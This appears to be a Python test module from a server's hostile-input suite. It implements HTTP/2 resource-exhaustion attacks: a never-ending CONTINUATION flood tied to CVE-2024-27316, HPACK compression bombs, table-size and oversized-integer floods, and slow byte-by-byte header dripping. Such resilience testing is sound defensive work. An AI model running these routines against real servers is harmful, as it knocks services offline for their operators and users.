"""Header blocks that are work to put together or to decode, or that never end."""

from collections.abc import Iterator
from itertools import count, repeat

import hpack
import trio

from tests.hostile.attacks.http2.connection import (
    GET,
    PREFACE,
    HostileConnection,
    attack_over_http2,
    headers,
    set_values,
)
from tests.hostile.attacks.http2.streams import ids
from tests.hostile.target import TargetSite
from tests.support.http2_frames import END_HEADERS, END_STREAM, FrameType, frame

LARGEST = 16_384
CONTINUATIONS = END_STREAM
"""Flags of a HEADERS frame after which others continue the block."""


def _text(value: bytes, *, huffman: bool = False) -> bytes:
    length = hpack.hpack.encode_integer(len(value), 7)
    length[0] |= 0x80 if huffman else 0
    return bytes(length) + value


def _field(value: bytes, kind: bytes = b"\x00", name: bytes = b"a") -> bytes:
    return kind + _text(name) + value


async def _requests(target: TargetSite, blocks: Iterator[bytes]) -> None:
    """A request for each of these blocks, as fast as they go."""

    async def attack(connection: HostileConnection) -> None:
        await connection.send_each(
            headers(stream, block) for stream, block in zip(ids(), blocks, strict=False)
        )

    await attack_over_http2(target, attack)


async def endless(target: TargetSite) -> None:
    """CVE-2024-27316: a block that never ends."""

    async def attack(connection: HostileConnection) -> None:
        await connection.send(headers(1, GET, CONTINUATIONS))
        await connection.send_each(repeat(frame(FrameType.CONTINUATION, 1, bytes(LARGEST))))

    await attack_over_http2(target, attack)


async def empty_continuations(target: TargetSite) -> None:
    """Blocks in many frames, most of which are empty."""

    async def attack(connection: HostileConnection) -> None:
        some = frame(FrameType.CONTINUATION, 1)
        await connection.send(headers(1, GET, CONTINUATIONS))
        await connection.send_each(repeat(some))

    await attack_over_http2(target, attack)


async def bombs(target: TargetSite) -> None:
    """References to a large entry of the table: a few bytes that mean many thousands."""

    async def attack(connection: HostileConnection) -> None:
        entry = _field(_text(b"x" * 4000), b"\x40")
        await connection.send(headers(1, GET + entry))
        await connection.send_each(
            headers(stream, GET + b"\xbe" * (stream % 8 + 3)) for stream in count(3, 2)
        )

    await attack_over_http2(target, attack)


async def small_bombs(target: TargetSite) -> None:
    """References to a small entry of the table, more than a thousand in each block."""

    async def attack(connection: HostileConnection) -> None:
        await connection.send(headers(1, GET + _field(_text(b"x"), b"\x40")))
        await connection.send_each(
            headers(stream, GET + b"\xbe" * (1000 + stream % 100)) for stream in count(3, 2)
        )

    await attack_over_http2(target, attack)


async def table_sizes(target: TargetSite) -> None:
    """Changes of the table's size, as many as there is room for."""
    await _requests(target, repeat(b"\x20" * 16_000 + GET))


async def huge_numbers(target: TargetSite) -> None:
    """Integers of many bytes."""
    await _requests(target, repeat(GET + b"\xff" + b"\x80" * 16_000 + b"\x01"))


async def long_codes(target: TargetSite) -> None:
    """Huffman code, of which each bit is looked at: as long as a block can be."""

    def blocks() -> Iterator[bytes]:
        for number in count():
            digits = sum((number >> bit & 1) << 5 * bit for bit in range(8))  # 00000 is a 0.
            yield GET + _field(_text(digits.to_bytes(5) + bytes(16_000), huffman=True))

    await _requests(target, blocks())


async def many_fields(target: TargetSite) -> None:
    """Fields that are new each time, as many as may be, and a long one at the end."""

    def blocks() -> Iterator[bytes]:
        for number in count():
            few = b"".join(
                _field(_text(b"%d" % number), b"\x40", b"%d" % field) for field in range(300)
            )
            yield GET + few + _field(_text(b"x" * 10_000))

    await _requests(target, blocks())


async def dripping(target: TargetSite) -> None:
    """A block that comes one byte a frame and a record, and slowly."""

    async def attack(connection: HostileConnection) -> None:
        block = GET + _field(_text(b"x" * 4000))
        for byte in frame(FrameType.HEADERS, 1, block, CONTINUATIONS):
            await connection.send(bytes([byte]))
            await trio.sleep(0.001)

    await attack_over_http2(target, attack)


async def dripping_preface(target: TargetSite) -> None:
    """The preface and the first SETTINGS frame, byte by byte."""

    async def attack(connection: HostileConnection) -> None:
        for byte in PREFACE + set_values(*[(0xF0, 0)] * 1000):
            await connection.send(bytes([byte]))

    await attack_over_http2(target, attack, starts=False)


async def records_of_one_byte(target: TargetSite) -> None:
    """Frames of data that come one byte a record."""

    async def attack(connection: HostileConnection) -> None:
        await connection.send(headers(1, GET, END_HEADERS))
        while True:
            for byte in frame(FrameType.DATA, 1, bytes(LARGEST)):
                await connection.send(bytes([byte]))

    await attack_over_http2(target, attack)
